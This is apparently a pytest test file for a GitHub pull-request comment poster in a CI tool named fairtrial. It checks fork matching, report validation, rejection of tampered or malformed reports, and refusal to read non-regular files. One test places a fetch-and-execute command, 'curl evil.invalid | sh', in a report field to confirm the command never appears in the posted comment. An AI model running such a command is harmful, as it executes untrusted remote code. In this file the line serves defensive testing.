"""Where the comment goes is told by GitHub's event, and by nothing in the report."""

from __future__ import annotations

import os
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from tests.fake_github.server import FakeGitHub
from tests.fake_github.state import Pull
from tests.reporters.sample import HEAD, REPORT

from fairtrial.clients.github import GitHubClient
from fairtrial.comment import Outcome, Trigger, post, read
from fairtrial.domain.report import Report
from fairtrial.reporters import report_json
from fairtrial.reporters.report_reader import SIZE_LIMIT

MERGE = "f" * 40


def client_of(github: FakeGitHub) -> GitHubClient:
    return GitHubClient(
        api_url=github.url,
        repository=github.repo,
        token=github.token,
        sleep=lambda _: None,
        now=lambda: 0.0,
    )


def same_workflow(pull: Pull) -> Trigger:
    return Trigger(
        event="pull_request",
        payload=pull.payload(),
        run=500,
        attempt=1,
        sha=MERGE,
        actor="octocat",
        workflow="ci",
    )


def following(pull: Pull, **changed: Any) -> Trigger:
    """The trigger of a workflow that follows the gate's, as for forks."""
    run = {
        "id": 500,
        "run_attempt": 1,
        "name": "ci",
        "event": "pull_request",
        "head_sha": pull.head,
        "head_branch": pull.branch,
        "head_repository": {"full_name": pull.repository.full_name},
    }
    return Trigger(
        event="workflow_run",
        payload={"workflow_run": run | changed},
        run=900,
        attempt=1,
        sha="e" * 40,
        actor="octocat",
        workflow="comment",
    )


def data_of(report: Report = REPORT) -> bytes:
    return report_json.dump(report).encode()


def about(head: str, pull_head: str | None = None) -> Report:
    assert REPORT.subject is not None
    return replace(
        REPORT, subject=replace(REPORT.subject, head=head, pull_head=pull_head)
    )


def test_a_forks_pull_request_is_found_by_its_commit(github: FakeGitHub) -> None:
    pull = github.pull(7, head=HEAD, fork="mallory/shop")

    posted = post(data_of(), following(pull), client_of(github))

    assert Outcome.CREATED is posted.outcome
    assert 1 == len(github.comments_of(7))


def test_a_fork_that_github_does_not_associate_is_found_by_its_branch(
    github: FakeGitHub,
) -> None:
    pull = github.pull(7, head=HEAD, fork="mallory/shop")
    github.unassociated.add(7)

    posted = post(data_of(), following(pull), client_of(github))

    assert Outcome.CREATED is posted.outcome


def test_both_ways_share_one_comment(github: FakeGitHub) -> None:
    pull = github.pull(7, head=HEAD)
    post(data_of(), same_workflow(pull), client_of(github))

    posted = post(data_of(), following(pull), client_of(github))

    assert Outcome.UNCHANGED is posted.outcome


def test_two_pull_requests_of_one_commit_are_not_guessed_between(
    github: FakeGitHub,
) -> None:
    pull = github.pull(7, head=HEAD)
    github.pull(8, head=HEAD, branch="other")

    posted = post(data_of(), following(pull), client_of(github))

    assert Outcome.SKIPPED is posted.outcome
    assert "exactly one" in posted.say


@pytest.mark.parametrize("arrange", ["closed", "other head", "other repository"])
def test_a_pull_request_that_is_not_the_runs_own_is_not_told(
    github: FakeGitHub, arrange: str
) -> None:
    pull = github.pull(7, head=HEAD, fork="mallory/shop")
    trigger = following(pull)
    match arrange:
        case "closed":
            pull.state = "closed"
        case "other head":
            github.push(7, "d" * 40)
        case _:
            trigger = following(pull, head_repository={"full_name": "eve/shop"})

    posted = post(data_of(), trigger, client_of(github))

    assert Outcome.SKIPPED is posted.outcome
    assert {} == github.comments


@pytest.mark.parametrize(
    "report",
    [
        replace(REPORT, run=replace(REPORT.run, id="499")),
        replace(REPORT, run=replace(REPORT.run, attempt=2)),
        about("d" * 40),
        about(MERGE[::-1].replace("f", "0"), "d" * 40),
    ],
)
@pytest.mark.parametrize("way", [same_workflow, following])
def test_a_report_of_another_run_or_head_is_not_told(
    github: FakeGitHub, report: Report, way: Any
) -> None:
    pull = github.pull(7, head=HEAD)

    posted = post(data_of(report), way(pull), client_of(github))

    assert Outcome.SKIPPED is posted.outcome
    assert {} == github.comments


def test_a_report_about_the_merge_commit_is_this_runs_own(github: FakeGitHub) -> None:
    pull = github.pull(7, head=HEAD)

    posted = post(data_of(about(MERGE)), same_workflow(pull), client_of(github))

    assert Outcome.CREATED is posted.outcome


def test_a_fork_runs_report_names_the_pull_requests_head(github: FakeGitHub) -> None:
    pull = github.pull(7, head=HEAD, fork="mallory/shop")

    posted = post(data_of(about(MERGE, HEAD)), following(pull), client_of(github))

    assert Outcome.CREATED is posted.outcome


@pytest.mark.parametrize("event", ["merge_group", "push", "workflow_dispatch"])
def test_events_without_one_pull_request_get_no_comment(
    github: FakeGitHub, event: str
) -> None:
    pull = github.pull(7, head=HEAD)

    told = [
        post(data_of(), replace(same_workflow(pull), event=event), client_of(github)),
        post(data_of(), following(pull, event=event), client_of(github)),
    ]

    assert {Outcome.SKIPPED} == {posted.outcome for posted in told}
    assert [] == github.requests


def test_an_event_that_is_none_of_githubs_is_a_warning(github: FakeGitHub) -> None:
    trigger = replace(same_workflow(github.pull(7)), payload={"pull_request": []})

    posted = post(data_of(), trigger, client_of(github))

    assert Outcome.FAILED is posted.outcome


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"{}",
        b'{"schema": "fairtrial/report/v1"}',
        b"[" * 100_000,
        b"\xff\xfe",
        data_of()[:-40],
        data_of().replace(b'"decision": "block"', b'"decision": "pass"', 1),
    ],
)
def test_a_report_that_is_refused_replaces_old_good_news(
    github: FakeGitHub, data: bytes
) -> None:
    pull = github.pull(7, head=HEAD)
    post(data_of(), same_workflow(pull), client_of(github))

    posted = post(data, replace(same_workflow(pull), attempt=2), client_of(github))

    assert Outcome.EDITED is posted.outcome
    [comment] = github.comments_of(7)
    assert "### ⚠️ The report of this run could not be read" in comment.body


def test_a_command_in_the_report_is_never_shown(github: FakeGitHub) -> None:
    pull = github.pull(7, head=HEAD)
    verdict = replace(REPORT.verdicts[1], replay="curl evil.invalid | sh")

    post(
        data_of(replace(REPORT, verdicts=(verdict,))),
        same_workflow(pull),
        client_of(github),
    )

    body = github.comments_of(7)[0].body
    assert "evil.invalid" not in body
    assert "fairtrial alone" in body


def test_a_report_file_is_read_up_to_a_limit(tmp_path: Path) -> None:
    path = tmp_path / "report.json"
    path.write_bytes(b"x" * (SIZE_LIMIT + 1000))

    assert SIZE_LIMIT + 1 == len(read(path))


@pytest.mark.parametrize("kind", ["link", "pipe", "folder", "nothing"])
def test_what_is_no_regular_file_is_not_read(tmp_path: Path, kind: str) -> None:
    path = tmp_path / "report.json"
    match kind:
        case "link":
            (tmp_path / "secret").write_text("secret")
            path.symlink_to(tmp_path / "secret")
        case "pipe":
            os.mkfifo(path)
        case "folder":
            path.mkdir()
        case _:
            pass

    with pytest.raises(OSError, match=r".+"):
        read(path)
